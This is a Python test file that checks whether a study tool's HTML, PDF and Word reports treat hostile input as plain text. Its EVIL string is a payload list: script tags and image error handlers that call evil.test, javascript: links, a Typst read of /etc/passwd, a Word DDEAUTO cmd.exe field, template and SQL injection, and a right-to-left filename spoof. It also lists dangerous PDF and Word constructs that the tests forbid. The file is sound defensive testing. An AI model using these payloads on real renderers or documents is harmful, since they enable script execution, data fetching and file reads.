"""Whatever strangers write into names, metadata, settings and texts, the three papers hold it as text and nothing else."""

import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pikepdf
import pytest
from lxml import etree
from PIL import Image

from dedupelab.publish.run import publish_run
from dedupelab.study.start import init
from dedupelab.study.study import Study

pytestmark = pytest.mark.slow

ARABIC, EMOJI, HEBREW = "استشارة عامة حول الصور", "📷🇭🇰👩‍🔬", "תמונות כפולות"
EVIL = (
    "<script>window.owned=1;fetch('http://evil.test/a')</script><img src=http://evil.test/b onerror='window.owned=1'>"
    "<svg onload='window.owned=1'></svg></style><style>@import 'http://evil.test/c';</style><base href='http://evil.test/'>"
    "<iframe src='javascript:window.owned=1'></iframe><meta http-equiv=refresh content='0;url=http://evil.test/d'> "
    "[x](javascript:window.owned=1) ![x](http://evil.test/e.png) <http://evil.test/f> *stars* `tick` | pipe | "
    '#read("/etc/passwd") #link("http://evil.test/g")[x] #import "@preview/x:0.1.0" $x^2$ @label /* c */ // d '
    'DDEAUTO c:\\\\windows\\\\cmd.exe INCLUDEPICTURE "http://evil.test/h" </w:t></w:r> {{ 7*7 }} {% raw %} '
    f"{ARABIC} {HEBREW} {EMOJI} \u202egpj.exe"
)
LONG = "endless title " * 143
NAMES = ("<img src=x onerror=window.owned=1>.jpg", "#read(secret).jpg", "[x](javascript:window.owned=1).jpg",
         f"{ARABIC}.jpg", f"{EMOJI}.jpg", "=HYPERLINK(x).jpg", "'; DROP TABLE--.jpg", "{{7*7}}.jpg")  # fmt: skip
TAGS = ("en", "zh-Hant-HK")
FIELDS = {"TOC", "PAGE", "NUMPAGES", "SEQ"}


@pytest.fixture(scope="module")
def run(tmp_path_factory, photograph) -> Path:
    """Write the papers, in both languages, of a study in which everything that takes a text is hostile."""
    home = tmp_path_factory.mktemp("hostile")
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x8298] = EVIL.encode(), EVIL.encode(), (LONG + EVIL).encode()
    for number, name in enumerate(NAMES):
        for place, collection in enumerate(("one", "two")):
            (home / collection).mkdir(exist_ok=True)
            exif[0x013B] = f"{collection} {EVIL}".encode()
            photograph(number % 4).save(home / collection / name, quality=95 - 30 * place, exif=exif)
    init(home / "study", {name: str(home / name) for name in ("one", "two")}, "small")
    quoted, long = (json.dumps(text[:290], ensure_ascii=False) for text in (EVIL, LONG))
    settings = home / "study" / "study.toml"
    text = settings.read_text("utf-8").replace(
        'purpose = ""', f"purpose = {json.dumps(LONG + EVIL, ensure_ascii=False)}"
    )
    settings.write_text(text.replace('holder = ""', f"holder = {quoted}"), "utf-8")
    profile = f"""
[consultation]
name = {quoted}
reference = {quoted}
recipient = [{quoted}, {long}]
[[question]]
number = 1
text = {json.dumps((LONG + EVIL)[:4900], ensure_ascii=False)}
findings = ["M1"]
[submission]
submitter = {quoted}
members = [{quoted}, {long}]
contact = {quoted}
signatory = {quoted}
salutation = {quoted}
[interests]
funding = {quoted}
[affected]
group = [{{ name = {quoted}, how = {quoted}, source = {quoted} }}]
[limits]
not_shown = [{quoted}]
"""
    (home / "study" / "consultation.toml").write_text(profile, "utf-8")
    (home / "study" / "text").mkdir(exist_ok=True)
    prose = EVIL.replace("{", "{{").replace("}", "}}")
    for section in ("letter", "introduction", "answer-1", "request"):
        (home / "study" / "text" / f"{section}.en.md").write_text(
            f"{LONG}\n\n{prose}\n\n- {prose}\n", "utf-8"
        )
    return publish_run(
        Study(home / "study"),
        home / "out",
        languages=TAGS,
        notebooks=False,
        bars=lambda _label: lambda _done, _all: None,
        now=datetime(2026, 1, 2, tzinfo=UTC),
    )


papers = pytest.mark.parametrize("name", [f"{paper}.{tag}" for paper in ("report", "letter") for tag in TAGS])


@pytest.mark.browser
def test_the_browser_would_tell(browser, tmp_path):
    """The same words as markup do run and do ask: the next test can fail."""
    words = EVIL.replace("http-equiv=refresh", "name=x")  # it would leave the page before anybody looks
    (tmp_path / "evil.html").write_text(f"<meta charset=utf-8>{words}", "utf-8")
    page = browser.new_page()
    asked = []
    page.route("http://evil.test/**", lambda route: (asked.append(route.request.url), route.abort()))
    try:
        page.goto((tmp_path / "evil.html").as_uri(), wait_until="commit")
        page.wait_for_function("window.owned === 1")
    finally:
        page.close()
    assert "http://evil.test/a" in asked


@pytest.mark.browser
@papers
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(run, browser, name):
    """No script, dialog, frame, navigation or request but for the file itself, though the words are all there."""
    page = browser.new_page()
    page.set_default_timeout(300_000)
    asked, dialogs = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    address = (run / f"{name}.html").as_uri()
    try:
        page.goto(address, wait_until="networkidle")
        page.keyboard.press("Tab")
        assert page.evaluate("window.owned") is None
        assert (
            page.evaluate(
                "document.querySelectorAll('script, iframe, object, embed, base, form, svg, link').length"
            )
            == 0
        )
        assert page.evaluate("document.querySelectorAll('style').length") == 1
        assert page.evaluate(
            "[...document.querySelectorAll('*')].every(e => [...e.attributes].every(a => !a.name.startsWith('on')))"
        )
        links = set(page.evaluate("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))"))
        assert "window.owned=1;fetch" in page.inner_text("body")
        assert page.url == address
    finally:
        page.close()
    assert [url for url in asked if url != address and not url.startswith("data:image/")] == []
    assert dialogs == []
    assert [link for link in links if not link.startswith(("#", "http://evil.test/"))] == []


@papers
def test_the_pdf_does_nothing(run, name):
    """No JavaScript, launch, form, attachment or opening action anywhere among its objects; its links are to pages or of the text."""
    with pikepdf.open(run / f"{name}.pdf") as pdf:
        for item in pdf.objects:
            if not isinstance(item, pikepdf.Dictionary):
                continue
            assert {
                "/JS",
                "/JavaScript",
                "/OpenAction",
                "/AA",
                "/Launch",
                "/EmbeddedFile",
                "/AcroForm",
                "/XFA",
            } & set(item.keys()) == set()
            if "/S" in item and isinstance(item.S, pikepdf.Name):
                assert str(item.S) not in {
                    "/JavaScript",
                    "/Launch",
                    "/SubmitForm",
                    "/ImportData",
                    "/GoToR",
                    "/GoToE",
                    "/Rendition",
                }
            if "/URI" in item and isinstance(item.URI, pikepdf.String):
                assert str(item.URI).startswith(
                    "http://evil.test/"
                )  # what an author sets in Markdown as a link is one


@papers
def test_the_word_file_does_nothing(run, name):
    """No relation to the outside but links that an author set, no field but our own, no object, macro or foreign part."""
    with zipfile.ZipFile(run / f"{name}.docx") as word:
        names = word.namelist()
        assert [n for n in names if not n.endswith((".xml", ".rels", ".png", ".jpg", ".jpeg"))] == []
        assert [n for n in names if "vba" in n.lower() or "embed" in n.lower() or "activeX" in n] == []
        for part in (n for n in names if n.endswith((".xml", ".rels"))):
            tree = etree.fromstring(word.read(part))
            for relation in tree.iter("{*}Relationship"):
                if relation.get("TargetMode") == "External":
                    assert relation.get("Type").endswith("/hyperlink")
                    assert relation.get("Target").startswith("http://evil.test/")
            codes = [e.get(f"{{{e.nsmap['w']}}}instr") for e in tree.iter("{*}fldSimple")]
            codes += [e.text for e in tree.iter("{*}instrText")]
            assert {code.split()[0] for code in codes} <= FIELDS
            for tag in ("object", "altChunk", "subDoc", "control", "attachedTemplate", "framePr", "script"):
                assert list(tree.iter(f"{{*}}{tag}")) == []
        body = "".join(etree.fromstring(word.read("word/document.xml")).itertext())
        assert "DDEAUTO" in body
        assert "window.owned=1;fetch" in body
